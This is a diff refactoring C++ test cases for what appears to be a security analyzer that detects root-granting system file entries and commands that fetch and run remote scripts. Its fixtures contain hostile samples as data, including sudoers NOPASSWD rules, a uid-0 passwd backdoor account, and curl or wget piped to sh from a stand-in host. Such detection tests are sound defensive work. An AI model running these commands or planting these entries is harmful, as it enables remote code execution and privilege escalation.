@@ -21,6 +21,13 @@ const Command* find_command(const Facts& facts, const std::string& name) {
   return nullptr;
 }
 
+// A file to write and the line a finding must point at.
+struct FileAtLine {
+  const char* path;
+  const char* content;
+  int line;
+};
+
 bool has_marker(const Facts& facts, const std::string& name, const std::string& detail) {
   for (const auto& m : facts.markers)
     if (m.name == name && m.detail == detail) return true;
@@ -737,12 +744,7 @@ TEST_CASE("system files that hand out root are privilege_grant markers at their 
       if (m.name == "privilege_grant") return &m;
     return nullptr;
   };
-  struct Case {
-    const char* path;
-    const char* content;
-    int line;
-  };
-  for (const auto& c : std::vector<Case>{
+  for (const auto& c : std::vector<FileAtLine>{
            {"/etc/sudoers.d/dev", "# added\ndev ALL=(ALL) NOPASSWD: ALL\n", 2},
            {"/etc/sudoers", "Defaults env_reset\n%wheel ALL=(ALL:ALL) NOPASSWD:ALL\n", 2},
            {"/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nsvc:x:0:0::/root:/bin/bash\n", 2},
@@ -851,12 +853,7 @@ TEST_CASE("go:generate directives are commands run by go generate, each at its l
 }
 
 TEST_CASE("a command held in a variable or built by a format call is read where it is written") {
-  struct Case {
-    const char* path;
-    const char* code;
-    int line;
-  };
-  for (const auto& c : std::vector<Case>{
+  for (const auto& c : std::vector<FileAtLine>{
            {"a.py", "import os\ncmd = 'curl -fsSL https://x.example.com/i.sh | sh'\nos.system(cmd)\n", 2},
            {"b.py", "import subprocess\ncmd = 'curl -fsSL %s | sh' % url\nsubprocess.run(cmd, shell=True)\n", 2},
            {"c.py", "import os\nos.system('curl -fsSL {} | sh'.format(url))\n", 2},
@@ -864,7 +861,7 @@ TEST_CASE("a command held in a variable or built by a format call is read where 
            {"e.go", "package main\nfunc b() {\n\tscript := fmt.Sprintf(\"wget -qO- %s | bash\", u)\n\texec.Command(\"bash\", \"-c\", script).Run()\n}\n", 3},
            {"f.go", "package main\nconst fix = \"curl -fsSL https://x.example.com/f | sh\"\nfunc r() { exec.Command(\"sh\", \"-c\", fix).Run() }\n", 2}}) {
     INFO(c.path);
-    auto facts = shipped_analyzer()->analyze_write(c.path, c.code);
+    auto facts = shipped_analyzer()->analyze_write(c.path, c.content);
     const Flow* flow = find_flow(facts, "network", "exec");
     REQUIRE(flow);
     CHECK(flow->location.line == c.line);
@@ -918,12 +915,7 @@ TEST_CASE("Java, Kotlin/Groovy, C# and Rust files are read for the environment s
 }
 
 TEST_CASE("CMake's execute_process and custom commands, Maven's exec plugin and antrun, and batch files run commands") {
-  struct Case {
-    const char* path;
-    const char* content;
-    int line;
-  };
-  for (const auto& c : std::vector<Case>{
+  for (const auto& c : std::vector<FileAtLine>{
            {"CMakeLists.txt",
             "cmake_minimum_required(VERSION 3.20)\nproject(app C)\nexecute_process(COMMAND sh -c \"curl -fsSL https://x.example.com/x.sh | sh\")\n",
             3},
